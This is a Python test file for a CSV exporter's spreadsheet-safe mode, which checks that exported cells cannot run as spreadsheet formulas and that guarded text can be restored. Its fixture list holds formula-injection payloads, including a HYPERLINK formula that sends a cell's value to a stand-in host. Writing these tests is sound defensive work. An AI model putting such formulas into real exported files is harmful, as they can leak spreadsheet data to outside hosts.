"""--spreadsheet-safe: no cell of a CSV file is a formula to a spreadsheet, and every text can be had back; without it texts are as they are."""

from __future__ import annotations

import csv
import re

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from torture import write_log

import moocdb_fast
from moocdb_fast import Options, translate
from moocdb_fast.cli import main
from moocdb_fast.errors import UsageError
from moocdb_fast.schema import TABLES
from moocdb_fast.sinks.guarded import guarded, unguarded

ODD = st.text(st.sampled_from("=+-@＝＠'\"\t\r\n; a1,(\0é"), max_size=12)
FORMULAS = ('=HYPERLINK("http://h/?"&A1,"x")', "@SUM(A1)", "-2+3", "+1", "\t=1", "a;=1+1", ';"=A1&"";', "'=1", "＝1", "x\n=1", "\r\r=1", "")


def runs(cell):
    """Whether a spreadsheet might run a text of a file: as one cell, or as several where `;`, tab or line ends separate them."""
    return any(re.match('"*[=+@＝＋－＠-]', piece) for piece in re.split("[;\t\r\n]", cell)) or cell[:1] in ("\t", "\r", "\n")


@settings(deadline=None)
@given(ODD)
@example("=1")
@example("\t'=")
def test_guarded_texts_do_not_run_and_come_back(text):
    (safe,) = guarded(pa.array([text])).to_pylist()
    assert not runs(safe)
    assert unguarded(safe) == text
    assert (safe == text) == (not runs(text) and re.search("(^|[;\t\r\n])\"*'", text) is None)


def test_null_stays():
    assert guarded(pa.array(["=1", None, ""])).to_pylist() == ["'=1", None, ""]


def cells(folder):
    """All cells of all tables, without the headers."""
    found = []
    for name in TABLES:
        with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            found += [cell for row in list(csv.reader(file))[1:] for cell in row]
    return found


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("outputs")
    log = write_log(folder, FORMULAS)
    for name, options in {"plain": {}, "safe": {"spreadsheet_safe": True}, "both": {"spreadsheet_safe": True, "formats": ("csv", "parquet")}}.items():
        translate(log, folder / name, Options(workers=1, key_file=folder / "key", restricted=folder / f"{name}-people", **options))
    return folder


@pytest.mark.promise("P26")
def test_no_cell_of_an_output_runs(outputs):
    plain, safe = cells(outputs / "plain"), cells(outputs / "safe")
    assert len({cell for cell in plain if runs(cell)}) > 8
    numbers = [cell for cell in safe if runs(cell)]
    assert all(re.fullmatch(r"-?\d+(\.\d+)?", cell) for cell in numbers)  # columns of numbers are no texts
    assert [unguarded(cell) for cell in safe] == plain
    assert (outputs / "both" / "submissions.csv").read_bytes() == (outputs / "safe" / "submissions.csv").read_bytes()


@pytest.mark.promise("P26")
def test_without_the_option_and_in_other_formats_texts_are_as_they_are(outputs):
    assert {text.replace("\0", "\ufffd") for text in FORMULAS} <= set(cells(outputs / "plain"))
    answers = moocdb_fast.open(outputs / "plain").table("submissions").column("submission_answer").to_pylist()
    assert moocdb_fast.open(outputs / "both").table("submissions").column("submission_answer").to_pylist() == answers


def test_guards_do_not_come_into_a_database(outputs, capsys):
    assert (outputs / "plain" / "moocdb.sql").exists()
    assert not (outputs / "safe" / "moocdb.sql").exists()
    with pytest.raises(UsageError, match="--spreadsheet-safe"):
        moocdb_fast.load(outputs / "safe", "mysql://nobody@127.0.0.1:1/course")
    assert main(["run", "x", "--out", str(outputs / "new"), "--spreadsheet-safe", "--to", "mysql://nobody@127.0.0.1:1/course"]) == 2
    assert main(["relations", "x", "--out", str(outputs / "new")]) == 3
    assert "--spreadsheet-safe" not in capsys.readouterr().out
